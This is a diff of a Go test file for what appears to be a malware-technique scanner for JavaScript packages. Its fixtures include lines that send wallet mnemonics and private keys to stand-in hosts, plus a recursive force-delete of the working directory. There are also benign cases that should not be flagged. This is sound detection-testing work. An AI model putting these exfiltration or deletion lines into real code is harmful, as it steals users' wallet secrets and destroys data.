@@ -60,11 +60,15 @@ func TestTechniques(t *testing.T) {
 			"}")},
 		{name: "mnemonic in a request body", high: true, new: ctAppend(
 			"axios.post('https://api.wallet-sync.invalid/v1', { phrase: wallet.mnemonic });")},
-		{name: "seed in a request body built just before", high: true, new: ctAppend(
-			"function report(seed) {",
-			"  const payload = { s: seed, t: Date.now() };",
+		{name: "private key in a request body built just before", high: true, new: ctAppend(
+			"function report(kp) {",
+			"  const payload = { k: Array.from(kp.privateKey), t: Date.now() };",
 			"  void fetch('https://telemetry.wallet-tools.invalid/c', { method: 'POST', body: JSON.stringify(payload) });",
 			"}")},
+		{name: "a random generator's seed before a fetch", quiet: true, new: ctAppend(
+			"const rngSeed = opts.seed ?? Date.now();",
+			"seed(db);",
+			"const res = await fetch('https://api.example.com/items');")},
 		{name: "seeded query parameter is not a seed", new: ctAppend("fetch('/api/items?reseeded=1').then((r) => r.json());")},
 
 		// Wallet calls next to a network read, in a package that is not about wallets (lottie-player).
@@ -126,6 +130,8 @@ func TestTechniques(t *testing.T) {
 			"fs.rmSync(process.cwd(), { recursive: true, force: true });")},
 		{name: "deprecation warning behind a date", quiet: true, new: ctAppend(
 			"if (Date.now() > Date.parse('2026-06-01')) process.emitWarning('fx 1.x is deprecated');")},
+		{name: "files older than a format change removed", quiet: true, new: ctAppend(
+			"if (fs.statSync(f).mtimeMs < Date.parse('2024-06-01')) fs.unlinkSync(f);")},
 		{name: "cache expiry removes a cache file", new: ctAppend(
 			"if (Date.now() - fs.statSync(cacheFile).mtimeMs > 86400000) fs.unlinkSync(cacheFile);")},
 		{name: "clean removes a build folder", new: ctAppend(
